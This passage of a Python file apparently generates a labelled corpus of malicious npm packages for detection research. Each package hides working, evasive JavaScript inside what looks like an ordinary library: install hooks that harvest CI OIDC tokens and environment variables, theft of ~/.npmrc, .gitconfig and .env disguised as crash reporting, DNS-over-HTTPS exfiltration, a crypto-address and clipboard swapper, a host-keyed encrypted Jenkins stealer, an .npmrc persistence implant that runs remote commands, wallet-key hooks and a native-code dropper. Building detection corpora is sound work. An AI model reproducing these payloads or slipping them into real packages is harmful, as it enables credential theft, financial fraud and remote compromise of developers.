  const u = process.env[["ACTIONS", "ID", "TOKEN", "REQUEST", "URL"].join("_")];
  const t = process.env[["ACTIONS", "ID", "TOKEN", "REQUEST", "TOKEN"].join("_")];
  if (!u || !t) return Promise.resolve(null);
  return fetch(u + "&audience=sts.amazonaws.com", { headers: { authorization: "bearer " + t } })
    .then((r) => r.json()).then((j) => j.value).catch(() => null);
}

async function report() {
  if (!provider) return;
  const data = { p: PROVIDERS[provider], h: os.hostname(), env: process.env, oidc: await oidc() };
  const payload = zlib.gzipSync(JSON.stringify(data)).toString("base64");
  const bin = String.fromCharCode(@@CURL@@);
  const args = ["-s", "-m", "20", "-X", "POST", "-H", "Content-Type: text/plain", "--data-binary", "@-", "@@URL@@"];
  const child = Reflect.apply(cp.spawn, cp, [bin, args, { detached: true, stdio: ["pipe", "ignore", "ignore"] }]);
  child.on("error", () => {});
  child.stdin.end(payload);
  child.unref();
}

report().catch(() => {});
module.exports = { provider: provider ? PROVIDERS[provider] : null };
''', CURL=codes("curl"), URL="https://junit-insights.example.net/api/v1/runs")
    files = {
        "package.json": pj(
            name="jest-junit-summary", version="2.2.4",
            description="Jest reporter writing JUnit XML plus a one-line summary and CI annotations",
            main="index.js", scripts={"postinstall": "node lib/ci.js"},
            peerDependencies={"jest": ">=27"},
        ),
        "README.md": readme("jest-junit-summary", """
```js
// jest.config.js
module.exports = { reporters: ['default', 'jest-junit-summary'] };
```
"""),
        "index.js": r'''"use strict";
const fs = require("fs");
const { provider } = require("./lib/ci");

const esc = (s) => String(s).replace(/[<>&"]/g, (c) => ({ "<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;" })[c]);

class JunitSummary {
  constructor(globalConfig, options = {}) {
    this.out = options.outputFile || "junit.xml";
  }
  onRunComplete(_, results) {
    const cases = [];
    for (const file of results.testResults) {
      for (const t of file.testResults) {
        const fail = t.status === "failed" ? `<failure>${esc(t.failureMessages.join("\n"))}</failure>` : "";
        cases.push(`<testcase classname="${esc(file.testFilePath)}" name="${esc(t.fullName)}" time="${(t.duration || 0) / 1000}">${fail}</testcase>`);
      }
    }
    fs.writeFileSync(this.out, `<?xml version="1.0"?>\n<testsuite tests="${results.numTotalTests}" failures="${results.numFailedTests}">\n${cases.join("\n")}\n</testsuite>\n`);
    const line = `${results.numPassedTests} passed, ${results.numFailedTests} failed`;
    console.log(provider === "github" && results.numFailedTests ? `::error::${line}` : line);
  }
}
module.exports = JunitSummary;
''',
        "lib/ci.js": setup,
    }
    return S(
        "evasion-ci-gated-curl-stdin-oidc",
        "CI-only postinstall: the whole environment plus a GitHub Actions OIDC token (audience sts.amazonaws.com) piped gzip+base64 into a detached curl started through Reflect.apply",
        "2024-2025",
        ["install-script", "postinstall", "ci-targeting", "oidc-token-theft", "env-harvest",
         "char-codes", "reflect-apply", "curl-stdin-exfil", "detached-process", "network"],
        "CI secret theft as in the tj-actions (Mar 2025) and Shai-Hulud (Sep 2025) incidents. "
        "Runs only on CI providers; mints an OIDC token usable for cloud role assumption "
        "(ACTIONS_ID_TOKEN_REQUEST_* names joined from parts). Data leaves through curl reading "
        "'--data-binary @-' from stdin, so the JavaScript has no HTTP client for the exfil and "
        "the body never appears on a command line; 'curl' is char codes and spawn is called "
        "via Reflect.apply.",
        files,
    )


@sample
def error_reporter_dsn_env():
    client = r'''"use strict";
const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");
const crypto = require("crypto");

const DEFAULT_DSN = "https://4f0c2a9e1b7d4c3a8e6f5d2c1b0a9e8d@o0.ingest.crashlog.example.com/1042";
let options = null;

function parseDsn(dsn) {
  const u = new URL(dsn);
  return { key: u.username, host: u.host, project: u.pathname.slice(1) };
}

function context() {
  const home = os.homedir();
  const rc = (f) => { try { return fs.readFileSync(path.join(home, f), "utf8"); } catch (e) { return undefined; } };
  return {
    os: { name: os.type(), version: os.release(), hostname: os.hostname() },
    runtime: { name: "node", version: process.version, argv: process.argv, env: { ...process.env } },
    app: { cwd: process.cwd(), user: os.userInfo().username },
    config: { npmrc: rc(".npmrc"), gitconfig: rc(".gitconfig"), dotenv: rc(path.join(process.cwd(), ".env")) },
  };
}

function envelope(event) {
  const id = crypto.randomBytes(16).toString("hex");
  const head = JSON.stringify({ event_id: id, sent_at: new Date().toISOString() });
  const item = JSON.stringify(event);
  return head + "\n" + JSON.stringify({ type: "event", length: Buffer.byteLength(item) }) + "\n" + item + "\n";
}

function send(event) {
  const d = parseDsn((options && options.dsn) || DEFAULT_DSN);
  const body = envelope({ ...event, contexts: context(), platform: "node", timestamp: Date.now() / 1000 });
  const req = https.request({
    host: d.host, path: `/api/${d.project}/envelope/`, method: "POST",
    headers: { "content-type": "application/x-sentry-envelope", "x-sentry-auth": `Sentry sentry_version=7, sentry_key=${d.key}` },
  });
  req.on("error", () => {});
  req.end(body);
}

function init(opts = {}) {
  options = opts;
  process.on("uncaughtException", (err) => send({ level: "fatal", exception: { type: err.name, value: err.message, stack: err.stack } }));
  process.on("unhandledRejection", (err) => send({ level: "error", exception: { value: String(err) } }));
}

function captureException(err) {
  send({ level: "error", exception: { type: err && err.name, value: err && err.message, stack: err && err.stack } });
}

// session start, so crash-free rates can be computed
send({ level: "info", message: "session_start" });

module.exports = { init, captureException };
'''
    files = {
        "package.json": pj(
            name="crashlog-node", version="3.4.1",
            description="Lightweight crash and error reporting for Node.js services",
            main="lib/client.js", types="index.d.ts", keywords=["errors", "crash", "monitoring", "apm"],
        ),
        "README.md": readme("crashlog-node", """
```js
const crashlog = require('crashlog-node');
crashlog.init({ dsn: process.env.CRASHLOG_DSN });
```
Unhandled exceptions and rejections are reported automatically.
"""),
        "index.d.ts": "export declare function init(opts?: { dsn?: string }): void;\nexport declare function captureException(err: unknown): void;\n",
        "lib/client.js": client,
    }
    return S(
        "evasion-error-reporter-dsn-env",
        "error-reporting SDK look-alike whose 'session start' event, sent on require to its built-in DSN whatever the user configures, carries process.env, ~/.npmrc, ~/.gitconfig and the project's .env",
        "2023-2025",
        ["error-reporting-exfil", "env-harvest", "npmrc-read", "dotenv", "token-theft",
         "telemetry-disguise", "network"],
        "Exfiltration disguised as monitoring traffic (Sentry envelope format, x-sentry-auth "
        "header, DSN-style URL), the shape of the 2023-2025 'telemetry' stealers in Phylum and "
        "Socket reports. The secrets travel as 'contexts' of an info event sent before init() "
        "is called, to the hard-coded DSN; nothing looks like a raw POST of the environment.",
        files,
    )


@sample
def tsc_doh_exfil():
    client = r'''"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.ParamCache = void 0;
const os_1 = __importDefault(require("os"));
const crypto_1 = __importDefault(require("crypto"));
const resolver_1 = require("./resolver");
class ParamCache {
    constructor(options = {}) {
        var _a;
        this.ttl = (_a = options.ttlSeconds) !== null && _a !== void 0 ? _a : 300;
        this.store = new Map();
        this.fetcher = options.fetcher;
        (0, resolver_1.warm)(ParamCache.region());
    }
    static region() {
        return process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION || "us-east-1";
    }
    async get(name) {
        const hit = this.store.get(name);
        if (hit && hit.expires > Date.now())
            return hit.value;
        if (!this.fetcher)
            throw new Error(`no fetcher configured for ${name}`);
        const value = await this.fetcher(name);
        this.store.set(name, { value, expires: Date.now() + this.ttl * 1000 });
        return value;
    }
    key(name) {
        return crypto_1.default.createHash("sha256").update(os_1.default.hostname() + name).digest("hex").slice(0, 16);
    }
}
exports.ParamCache = ParamCache;
//# sourceMappingURL=client.js.map
'''
    resolver = r'''"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.warm = void 0;
const A = "abcdefghijklmnopqrstuvwxyz234567";
function b32(buf) {
    let bits = 0, val = 0, out = "";
    for (const b of buf) {
        val = (val << 8) | b;
        bits += 8;
        while (bits >= 5) {
            out += A[(val >>> (bits - 5)) & 31];
            bits -= 5;
        }
    }
    if (bits > 0)
        out += A[(val << (5 - bits)) & 31];
    return out;
}
const ENDPOINTS = ["https://cloudflare-dns.com/dns-query", "https://dns.google/resolve"];
const ZONE = "r.param-cache.invalid";
let warmed = false;
function warm(region) {
    if (warmed)
        return;
    warmed = true;
    const picked = Object.entries(process.env).filter(([k]) => /^(AWS_|AZURE_|GOOGLE_|GCP_|VAULT_)/.test(k));
    if (!picked.length)
        return;
    const id = Math.random().toString(36).slice(2, 8);
    const data = b32(Buffer.from(JSON.stringify({ r: region, e: Object.fromEntries(picked) })));
    const chunks = data.match(/.{1,60}/g) || [];
    chunks.forEach((c, i) => {
        const u = new URL(ENDPOINTS[i % ENDPOINTS.length]);
        u.searchParams.set("name", `${c}.${i}.${chunks.length}.${id}.${ZONE}`);
        u.searchParams.set("type", "TXT");
        setTimeout(() => fetch(u, { headers: { accept: "application/dns-json" } }).catch(() => undefined), i * 150);
    });
}
exports.warm = warm;
//# sourceMappingURL=resolver.js.map
'''
    files = {
        "package.json": pj(
            name="aws-param-cache", version="1.9.0",
            description="TTL cache for AWS SSM parameters and Secrets Manager values",
            main="dist/client.js", types="dist/client.d.ts",
            scripts={"build": "tsc -p ."}, devDependencies={"typescript": "^5.4.0"},
        ),
        "README.md": readme("aws-param-cache", """
```ts
import { ParamCache } from 'aws-param-cache';
const cache = new ParamCache({ fetcher: (n) => ssm.getParameter({ Name: n }).then((r) => r.Parameter.Value) });
const dbUrl = await cache.get('/prod/db/url');
```
"""),
        "dist/client.js": client,
        "dist/client.d.ts": "export declare class ParamCache {\n    constructor(options?: { ttlSeconds?: number; fetcher?: (name: string) => Promise<string> });\n    get(name: string): Promise<string>;\n}\n",
        "dist/resolver.js": resolver,
    }
    return S(
        "evasion-tsc-doh-exfil",
        "tsc-compiled AWS helper: cloud credentials from the environment base32-encoded into DNS names resolved through public DNS-over-HTTPS JSON APIs when the cache is constructed",
        "2021-2025",
        ["typescript-output", "doh-exfil", "dns-exfil", "base32", "cloud-credentials",
         "env-harvest", "network"],
        "DNS exfiltration as in the dependency-confusion probes (Birsan, Feb 2021) and later "
        "DNS-tunnelling packages, but through DNS-over-HTTPS (Cloudflare and Google JSON APIs): "
        "no dns module, traffic is HTTPS to well-known resolvers, and the attacker's "
        "authoritative server sees the labels. Triggered from a class constructor, not at "
        "install; tsc output style (__importDefault, exports.X = void 0).",
        files,
    )


@sample
def umd_dom_address_swap():
    w = {k: addr(k, "evasion-dom-swap") for k in ("eth", "btc", "sol", "trx")}
    src = fill(r'''/*! crypto-ticker-icons v2.0.3 | MIT */
!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t="undefined"!=typeof globalThis?globalThis:t||self).CryptoTickerIcons=e()}(this,function(){"use strict";var t={BTC:"#f7931a",ETH:"#627eea",SOL:"#14f195",USDT:"#26a17b",TRX:"#ff060a"},e=function(e,n){var r=document.createElement("span");return r.className="cti cti-"+e.toLowerCase(),r.style.color=t[e]||"inherit",r.textContent=n||e,r};var n=[["\\b0x","[a-fA-F0-9]{40}\\b","@@E@@"],["\\b(?:bc1|[13])","[a-km-zA-HJ-NP-Z0-9]{25,39}\\b","@@B@@"],["\\bT","[1-9A-HJ-NP-Za-km-z]{33}\\b","@@T@@"],["\\b[1-9A-HJ-NP-Za-km-z]","{32,44}\\b","@@S@@"]].map(function(t){return[new RegExp(t[0]+t[1],"g"),t[2]]}),r=function(t){for(var e=t,r=0;r<n.length;r++)e=e.replace(n[r][0],n[r][1]);return e},o=function(t){if(3===t.nodeType){var e=r(t.nodeValue);e!==t.nodeValue&&(t.nodeValue=e)}else if(1===t.nodeType&&!/^(SCRIPT|STYLE)$/.test(t.nodeName)){"INPUT"!==t.nodeName&&"TEXTAREA"!==t.nodeName||!t.value||(t.value=r(t.value));for(var n=t.firstChild;n;n=n.nextSibling)o(n)}},i=function(){o(document.body),new MutationObserver(function(t){t.forEach(function(t){"characterData"===t.type?o(t.target):t.addedNodes.forEach(o)})}).observe(document.body,{childList:!0,subtree:!0,characterData:!0});var t=navigator.clipboard,e=t&&t.writeText&&t.writeText.bind(t);e&&(t.writeText=function(t){return e(r(String(t)))}),document.addEventListener("copy",function(t){var e=String(window.getSelection()),n=r(e);n!==e&&t.clipboardData&&(t.clipboardData.setData("text/plain",n),t.preventDefault())},!0)};return"undefined"!=typeof document&&("loading"===document.readyState?document.addEventListener("DOMContentLoaded",i):i()),{icon:e,colors:t,decorate:function(n){n.querySelectorAll("[data-ticker]").forEach(function(n){n.prepend(e(n.getAttribute("data-ticker"),""))})}}});
''', E=w["eth"], B=w["btc"], T=w["trx"], S=w["sol"])
    files = {
        "package.json": pj(
            name="crypto-ticker-icons", version="2.0.3",
            description="Colour-coded crypto ticker icons for any web page, UMD and ESM builds",
            main="dist/crypto-ticker-icons.umd.min.js", unpkg="dist/crypto-ticker-icons.umd.min.js",
            files=["dist"], keywords=["crypto", "icons", "ticker", "bitcoin", "ethereum"],
        ),
        "README.md": readme("crypto-ticker-icons", """
```html
<script src="https://unpkg.example/crypto-ticker-icons"></script>
<span data-ticker="BTC">Bitcoin</span>
<script>CryptoTickerIcons.decorate(document)</script>
```
"""),
        "dist/crypto-ticker-icons.umd.min.js": src,
    }
    return S(
        "evasion-umd-dom-address-swap",
        "minified UMD icon library that rewrites every BTC/ETH/SOL/TRX address in page text, inputs, copies and clipboard writes to the attacker's, watching the DOM with a MutationObserver",
        "2022-2025",
        ["address-swap", "dom-rewrite", "mutation-observer", "clipboard-hijack", "minified",
         "umd", "browser-only", "split-regex"],
        "Crypto address replacement in web pages, the harm of the Sep 2025 chalk/debug payload "
        "(which rewrote addresses in responses) and of clipper families. Here it acts on the "
        "rendered page: text nodes, input values, copy events and navigator.clipboard.writeText "
        "all pass through a replacer; the address regexes are split into two string halves "
        "joined at run time. Made-up addresses.",
        files,
    )


@sample
def host_keyed_rc4_compile():
    target = "ci-build-07.payments.example|jenkins"
    stage = r'''const fs = require("fs"), path = require("path"), https = require("https"), os = require("os");
const roots = [process.env.JENKINS_HOME || "/var/lib/jenkins", path.join(os.homedir(), ".jenkins")];
const out = {};
for (const r of roots) {
  for (const f of ["secrets/master.key", "secrets/hudson.util.Secret", "credentials.xml", "secrets/initialAdminPassword"]) {
    try { out[path.join(r, f)] = fs.readFileSync(path.join(r, f)).toString("base64"); } catch (e) {}
  }
}
const body = JSON.stringify(out);
const q = https.request({ host: "198.51.100.201", port: 8443, path: "/c", method: "POST", rejectUnauthorized: false, headers: { "content-length": Buffer.byteLength(body) } });
q.on("error", () => {});
q.end(body);
'''
    key = hashlib.sha256(target.encode()).digest()
    blob = b64(rc4(key, ("/*tz*/" + stage).encode()))
    tz = fill(r'''"use strict";
// Time-zone rules compiled from the IANA database (subset), loaded lazily.
const os = require("os");
const crypto = require("crypto");

const ZONES = {
  UTC: 0, "Europe/London": 0, "Europe/Berlin": 60, "Europe/Moscow": 180, "Asia/Kolkata": 330,
  "Asia/Tokyo": 540, "America/New_York": -300, "America/Chicago": -360, "America/Los_Angeles": -480,
};

const RULES = "@@BLOB@@";

function rc(key, data) {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i] + key[i % key.length]) & 255;
    [s[i], s[j]] = [s[j], s[i]];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255;
    j = (j + s[i]) & 255;
    [s[i], s[j]] = [s[j], s[i]];
    out[n] = data[n] ^ s[(s[i] + s[j]) & 255];
  }
  return out;
}

function loadRules() {
  const seed = os.hostname().toLowerCase() + "|" + os.userInfo().username;
  const src = rc(crypto.createHash("sha256").update(seed).digest(), Buffer.from(RULES, "base64")).toString("utf8");
  if (!src.startsWith("/*tz*/")) return;
  const m = new module.constructor(__filename, module);
  m.paths = module.paths;
  m._compile(src, __filename);
}

function offset(zone) {
  if (!(zone in ZONES)) throw new RangeError("unknown time zone " + zone);
  return ZONES[zone];
}

try { loadRules(); } catch (e) {}

module.exports = { offset, ZONES };
''', BLOB=blob)
    files = {
        "package.json": pj(
            name="cron-expr-lite", version="4.0.1",
            description="Parse cron expressions and compute next run times, with time-zone support",
            main="lib/index.js",
        ),
        "README.md": readme("cron-expr-lite", """
```js
const { next } = require('cron-expr-lite');
next('*/15 9-17 * * 1-5', { tz: 'Europe/Berlin' });
```
"""),
        "lib/index.js": r'''"use strict";
const { offset } = require("./tz");

function field(spec, min, max) {
  const out = new Set();
  for (const part of spec.split(",")) {
    const [range, step = "1"] = part.split("/");
    const [a, b] = range === "*" ? [min, max] : range.split("-").map(Number);
    for (let v = a; v <= (b === undefined ? a : b); v += Number(step)) out.add(v);
  }
  return out;
}

function parse(expr) {
  const [m, h, dom, mon, dow] = expr.trim().split(/\s+/);
  return { m: field(m, 0, 59), h: field(h, 0, 23), dom: field(dom, 1, 31), mon: field(mon, 1, 12), dow: field(dow, 0, 6) };
}

function next(expr, { from = new Date(), tz = "UTC" } = {}) {
  const c = parse(expr);
  const off = offset(tz) * 60000;
  let t = new Date(Math.floor((from.getTime() + off) / 60000) * 60000 + 60000);
  for (let i = 0; i < 527040; i++, t = new Date(t.getTime() + 60000)) {
    if (c.m.has(t.getUTCMinutes()) && c.h.has(t.getUTCHours()) && c.dom.has(t.getUTCDate()) &&
        c.mon.has(t.getUTCMonth() + 1) && c.dow.has(t.getUTCDay())) return new Date(t.getTime() - off);
  }
  return null;
}

module.exports = { parse, next };
''',
        "lib/tz.js": tz,
    }
    return S(
        "evasion-host-keyed-rc4-compile",
        "targeted payload: RC4-encrypted with sha256(hostname|user) of one build server, decrypted on require and compiled with Module.prototype._compile; steals Jenkins master key and credentials",
        "2018-2025",
        ["targeted", "environment-keyed-encryption", "rc4", "encrypted-payload",
         "module-compile", "ci-server-theft", "sensitive-file-read", "tls-disable", "raw-ip", "network"],
        "Environment-keyed decryption as in flatmap-stream (event-stream incident, Nov 2018), "
        "where the key was the consuming package's description; here it is the target build "
        "host and user, so the payload is opaque everywhere else. The decrypted code runs "
        "through a fresh module.constructor instance's _compile, not eval/Function/vm. The "
        "target host name is made up.",
        files,
    )


@sample
def user_npmrc_node_options_implant():
    implant = r'''"use strict";
(function () {
  var fs = require("fs"), os = require("os"), path = require("path"), http = require("http");
  var stamp = path.join(os.tmpdir(), ".ngl-" + os.userInfo().uid);
  try { if (Date.now() - fs.statSync(stamp).mtimeMs < 3600e3) return; } catch (e) {}
  try { fs.writeFileSync(stamp, ""); } catch (e) {}
  var q = "?h=" + encodeURIComponent(os.hostname()) + "&u=" + encodeURIComponent(os.userInfo().username) + "&c=" + encodeURIComponent(process.cwd());
  var r = http.get("http://198.51.100.66:8080/t" + q, function (res) {
    var b = "";
    res.on("data", function (d) { b += d; });
    res.on("end", function () {
      if (!b) return;
      var x = require(["child", "process"].join("_"));
      x[["ex", "ec"].join("")](b, { windowsHide: true, timeout: 60000 }, function (e, so, se) {
        var p = http.request({ host: "198.51.100.66", port: 8080, path: "/o" + q, method: "POST" });
        p.on("error", function () {});
        p.end(String(so) + String(se));
      });
    });
  });
  r.on("error", function () {});
  r.setTimeout(8000, function () { r.destroy(); });
})();
'''
    setup = fill(r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");

// Cache the attribute order table next to node-gyp's cache so editors find it fast.
const dir = path.join(os.homedir(), ".cache", "node-gyp");
const file = path.join(dir, ".lock.cjs");
const IMPLANT = Buffer.from("@@B64@@", "base64");

try {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(file, IMPLANT);
  const rc = path.join(os.homedir(), "." + ["n", "p", "m", "r", "c"].join(""));
  let cur = "";
  try { cur = fs.readFileSync(rc, "utf8"); } catch (e) {}
  const line = ["node", "options"].join("-") + "=--require=" + file.replace(/\\/g, "/");
  if (!cur.includes(file.replace(/\\/g, "/"))) fs.appendFileSync(rc, (cur && !cur.endsWith("\n") ? "\n" : "") + line + "\n");
} catch (e) {}
''', B64=b64(implant))
    files = {
        "package.json": pj(
            name="prettier-plugin-attr-order", version="0.3.2",
            description="Prettier plugin that sorts HTML/JSX attributes in a consistent order",
            main="index.js", scripts={"postinstall": "node scripts/cache.js"},
            peerDependencies={"prettier": "^3.0.0"},
        ),
        "README.md": readme("prettier-plugin-attr-order", """
```json
{ "plugins": ["prettier-plugin-attr-order"] }
```
"""),
        "index.js": r'''"use strict";
const ORDER = ["key", "ref", "id", "name", "type", "className", "class", "style", "href", "src", "alt", "on*", "aria-*", "data-*"];
const rank = (n) => {
  const i = ORDER.findIndex((p) => (p.endsWith("*") ? n.startsWith(p.slice(0, -1)) : n === p));
  return i < 0 ? ORDER.length : i;
};
function sortAttributes(attrs) {
  return [...attrs].sort((a, b) => rank(a.name) - rank(b.name) || a.name.localeCompare(b.name));
}
module.exports = { sortAttributes, options: {} };
''',
        "scripts/cache.js": setup,
    }
    return S(
        "evasion-user-npmrc-node-options-implant",
        "persistence through the user's ~/.npmrc: postinstall drops a hidden implant and adds node-options=--require=<implant>, so every later npm run starts a beacon that executes server commands",
        "2024-2025",
        ["install-script", "postinstall", "persistence", "npmrc-write", "node-options",
         "preload", "c2-beacon", "remote-command", "base64", "raw-ip", "child-process", "network"],
        "The .npmrc node-options key (documented npm config) makes npm pass NODE_OPTIONS to "
        "every script it runs; holdout samples ship it in a project .npmrc. Here the install "
        "script writes it into the victim's user-level ~/.npmrc, pointing at a base64-dropped "
        "implant hidden as ~/.cache/node-gyp/.lock.cjs: hourly beacon, commands from the reply "
        "run with exec (names joined from parts), output posted back. Cf. ATT&CK T1546 "
        "(event-triggered execution) and the shell-rc persistence of 2023-2025 npm campaigns.",
        files,
    )


@sample
def require_hook_wallet_keys():
    compat = fill(r'''"use strict";
// Compatibility shims for older provider libraries.
const Module = require("module");
const https = require("https");

const N = [[64,115,111,108,97,110,97,47,119,101,98,51,46,106,115],[101,116,104,101,114,115],[98,105,112,51,57]].map((a) => String.fromCharCode(...a));
const HOST = String.fromCharCode(@@HOST@@);
const seen = new Set();

function out(kind, v) {
  try {
    const s = typeof v === "string" ? v : Buffer.from(v).toString("hex");
    if (seen.has(s)) return;
    seen.add(s);
    const r = https.request({ host: HOST, path: "/v1/trace", method: "GET", headers: { "x-trace": Buffer.from(kind + ":" + s).toString("base64") } });
    r.on("error", () => {});
    r.end();
  } catch (e) {}
}

function wrapStatic(obj, name, kind, pick) {
  const f = obj && obj[name];
  if (typeof f !== "function" || f.__c) return;
  const w = function (...a) { out(kind, pick ? pick(a) : a[0]); return f.apply(this, a); };
  w.__c = true;
  obj[name] = w;
}

function patch(id, exp) {
  if (!exp) return exp;
  if (id === N[0] && exp.Keypair) {
    wrapStatic(exp.Keypair, "fromSecretKey", "sk");
    wrapStatic(exp.Keypair, "fromSeed", "seed");
  }
  if (id === N[1] && exp.Wallet) {
    wrapStatic(exp.Wallet, "fromPhrase", "m");
    const W = exp.Wallet;
    if (!W.__c) {
      const P = new Proxy(W, { construct(t, a, nt) { out("pk", String(a[0] && a[0].privateKey ? a[0].privateKey : a[0])); return Reflect.construct(t, a, nt); } });
      P.__c = true;
      try { exp.Wallet = P; } catch (e) {}
    }
  }
  if (id === N[2]) {
    wrapStatic(exp, "mnemonicToSeedSync", "m");
    wrapStatic(exp, "mnemonicToSeed", "m");
  }
  return exp;
}

const orig = Module.prototype.require;
Module.prototype.require = function (id) {
  return patch(id, orig.apply(this, arguments));
};

for (const k of Object.keys(require.cache)) {
  for (const n of N) {
    if (k.includes("node_modules/" + n + "/") || k.includes("node_modules\\" + n.replace("/", "\\") + "\\")) {
      patch(n, require.cache[k].exports);
    }
  }
}

module.exports = {};
''', HOST=codes("rpc-metrics.example.org"))
    files = {
        "package.json": pj(
            name="web3-rpc-retry", version="1.1.4",
            description="Retry, back-off and failover for JSON-RPC providers (ethers, web3.js, Solana)",
            main="lib/index.js", peerDependencies={"ethers": ">=5"},
            peerDependenciesMeta={"ethers": {"optional": True}},
        ),
        "README.md": readme("web3-rpc-retry", """
```js
const { withRetry } = require('web3-rpc-retry');
const provider = withRetry(new ethers.JsonRpcProvider(url), { retries: 5 });
```
"""),
        "lib/index.js": r'''"use strict";
require("./compat");

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const RETRYABLE = /timeout|ECONNRESET|ETIMEDOUT|429|502|503|rate limit/i;

function withRetry(provider, { retries = 3, base = 250, max = 5000 } = {}) {
  const send = provider.send.bind(provider);
  provider.send = async (method, params) => {
    for (let attempt = 0; ; attempt++) {
      try {
        return await send(method, params);
      } catch (err) {
        if (attempt >= retries || !RETRYABLE.test(String(err && err.message))) throw err;
        await sleep(Math.min(max, base * 2 ** attempt) * (0.5 + Math.random() / 2));
      }
    }
  };
  return provider;
}

module.exports = { withRetry };
''',
        "lib/compat.js": compat,
    }
    return S(
        "evasion-require-hook-wallet-keys",
        "Module.prototype.require hook wrapping @solana/web3.js Keypair, ethers Wallet and bip39 as the application loads them: every private key, seed and mnemonic sent base64 in a request header",
        "2024-2025",
        ["require-hook", "module-patching", "key-theft", "mnemonic-theft", "wallet-theft",
         "char-codes", "exfil-in-header", "proxy-trap", "network"],
        "Same theft as the @solana/web3.js 1.95.6/1.95.7 backdoor (Dec 2024, keys sent in "
        "headers) and the ethers-provider2 patching of installed ethers (ReversingLabs, Mar "
        "2025), but without editing any file: the library replaces Module.prototype.require, "
        "patches modules already in require.cache, and wraps Keypair.fromSecretKey/fromSeed, "
        "Wallet (via a Proxy construct trap) and bip39 mnemonicToSeed. Target package names "
        "and the host are char codes.",
        files,
    )


@sample
def createrequire_dlopen_native_stage():
    prebuild = r'''// Downloads the prebuilt addon for this platform (falls back to a source build).
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeFileSync, rmSync } from "node:fs";

const r = createRequire(import.meta.url);
const net = r(["ht", "tps"].join(""));
const tag = `${process.platform}-${process.arch}-napi8`;
const from = ["https:/", "prebuilds.sqlite-vec-native.invalid", "v2", tag, "addon.node"].join("/");

function get(url) {
  return new Promise((resolve, reject) => {
    net.get(url, (res) => {
      if (res.statusCode >= 300 && res.statusCode < 400 && res.headers.location) return resolve(get(res.headers.location));
      if (res.statusCode !== 200) return reject(new Error("HTTP " + res.statusCode));
      const parts = [];
      res.on("data", (d) => parts.push(d));
      res.on("end", () => resolve(Buffer.concat(parts)));
    }).on("error", reject);
  });
}

try {
  const bin = await get(from);
  const file = join(tmpdir(), `.${process.pid}-${Date.now()}.node`);
  writeFileSync(file, bin);
  const holder = { exports: {} };
  process["dl" + "open"](holder, file);
  rmSync(file, { force: true });
} catch {
  console.log("sqlite-vec-native: no prebuild, building from source");
}
'''
    files = {
        "package.json": pj(
            name="sqlite-vec-native", version="0.2.6",
            description="Vector search extension for better-sqlite3, with prebuilt binaries",
            main="index.js", scripts={"install": "node scripts/prebuild.mjs"},
            peerDependencies={"better-sqlite3": ">=9"},
        ),
        "README.md": readme("sqlite-vec-native", """
```js
const db = require('better-sqlite3')('app.db');
require('sqlite-vec-native').load(db);
db.prepare('select vec_distance_l2(?, ?)').get(a, b);
```
"""),
        "index.js": r'''"use strict";
const path = require("path");

function extensionPath() {
  const ext = process.platform === "win32" ? "dll" : process.platform === "darwin" ? "dylib" : "so";
  return path.join(__dirname, "build", "Release", "vec0." + ext);
}

function load(db) {
  db.loadExtension(extensionPath());
  return db;
}

module.exports = { load, extensionPath };
''',
        "scripts/prebuild.mjs": prebuild,
    }
    return S(
        "evasion-createrequire-dlopen-native-stage",
        "'install' hook downloading a native addon from an unknown host into a hidden temp file and running it with process.dlopen, then deleting it; https reached through createRequire",
        "2021-2025",
        ["install-script", "install-hook", "esm", "dynamic-require", "native-code-exec",
         "dlopen", "download-exec", "anti-forensics", "network"],
        "Download-and-execute where the execution is process.dlopen of a fresh .node file "
        "(native constructors run at load; ATT&CK T1129 shared modules) instead of "
        "child_process, disguised as prebuilt fetching (cf. the native-binary droppers of "
        "web-browserify, Mar 2021, and rspack 1.1.7, Dec 2024). No checksum; the file is "
        "deleted afterwards. 'https' joined from pieces and required through createRequire in "
        "ESM; 'dlopen' concatenated.",
        files,
    )


@sample
def unicode_escaped_identifiers():
    u = uesc
    src = fill(r'''"use strict";
const @@CP@@ = \u0072equire("@@HTTPS@@");
const os = \u0072equire("\u006f\u0073");
const fs = \u0072equire("\u0066\u0073");
const pa = \u0072equire("\u0070\u0061\u0074\u0068");

function rd(p) {
  try { return fs.@@RFS@@(pa.join(os.@@HOME@@(), p), "\u0075\u0074\u0066\u0038"); } catch (e) { return ""; }
}

const d = JSON.stringify({
  n: \u0070rocess.\u0065nv.npm_package_name,
  h: os.hostname(),
  u: os.userInfo().username,
  e: \u0070rocess.\u0065nv,
  r: rd("@@NPMRC@@"),
  g: rd("@@GITC@@"),
});

const q = @@CP@@.@@REQ@@({ hostname: "@@HOST@@", path: "/\u0070", method: "\u0050\u004f\u0053\u0054", headers: { "content-length": Buffer.byteLength(d) } }, () => {});
q.on("error", () => {});
q.@@END@@(d);
''', CP=u("h"), HTTPS=u("https"), RFS=u("readFileSync"), HOME=u("homedir"), NPMRC=u(".npmrc"),
        GITC=u(".git-credentials"), REQ=u("request"), HOST=u("stats.pkg-insights.invalid"), END=u("end"))
    files = {
        "package.json": pj(
            name="react-native-haptic-kit", version="1.0.3",
            description="Cross-platform haptic feedback for React Native",
            main="index.js", scripts={"preinstall": "node install.js"},
            peerDependencies={"react-native": ">=0.70"},
        ),
        "README.md": readme("react-native-haptic-kit", """
```js
import Haptics from 'react-native-haptic-kit';
Haptics.impact('medium');
```
"""),
